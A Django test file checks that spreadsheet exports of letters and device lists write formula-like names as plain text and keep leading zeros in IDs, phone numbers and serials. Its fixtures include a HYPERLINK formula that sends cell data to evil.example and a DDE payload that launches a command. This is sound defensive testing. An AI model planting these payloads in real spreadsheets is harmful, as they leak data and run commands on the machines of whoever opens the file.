"""Every export is safe to open: a text that Excel would run as a formula (`=`, `+`, `-`,
`@`, tab, carriage return first) is written as a text cell, and ID numbers, phone numbers and
serials are text cells that keep their leading zeros (docs/security.md)."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from devices.choices import DeviceStatus
from tests import factories as f
from tests.factories import letter_draft, letter_row_add

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&D3,"Xem")'


def _cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_the_letter_export_writes_a_formula_like_name_as_text(client, cast, trigger):
    name = HOSTILE if trigger == "=" else f"{trigger}cmd|' /C calc'!A0"
    letter = letter_draft(cast)
    row = letter_row_add(letter, cast.clerk_a)
    type(row).objects.filter(pk=row.pk).update(full_name=name)  # as a hostile import would
    client.force_login(cast.clerk_a)

    content = client.get(reverse("requests_app:export", args=[letter.pk])).content

    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # (a carriage return may come back from the file as a line feed: compare after it)
    (named,) = [c for c in cells if isinstance(c.value, str) and c.value[1:] == name[1:]]
    assert named.data_type == "s"


def test_the_letter_export_writes_ids_and_phones_as_text_cells(client, cast):
    letter = letter_draft(cast)
    letter_row_add(letter, cast.clerk_a)
    client.force_login(cast.clerk_a)

    cells = _cells(client.get(reverse("requests_app:export", args=[letter.pk])).content)

    for value in ("012190001234", "0912345678"):
        (cell,) = [c for c in cells if c.value == value]
        assert (cell.data_type, cell.number_format) == ("s", "@")


def test_the_device_export_writes_a_formula_like_holder_and_serials_as_text(client, cast):
    holder = f.PersonFactory(organization=cast.agency_a, full_name=HOSTILE)
    device = f.DeviceFactory(
        agency=cast.agency_a, holder=holder, status=DeviceStatus.HANDED_TO_SUBSCRIBER
    )
    client.force_login(cast.clerk_a)

    content = client.get(reverse("devices:list"), {"xuat": "xlsx"}).content

    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    (named,) = [c for c in cells if c.value == HOSTILE]
    assert named.data_type == "s"
    (serial,) = [c for c in cells if c.value == device.serial]
    assert (serial.data_type, serial.number_format) == ("s", "@")
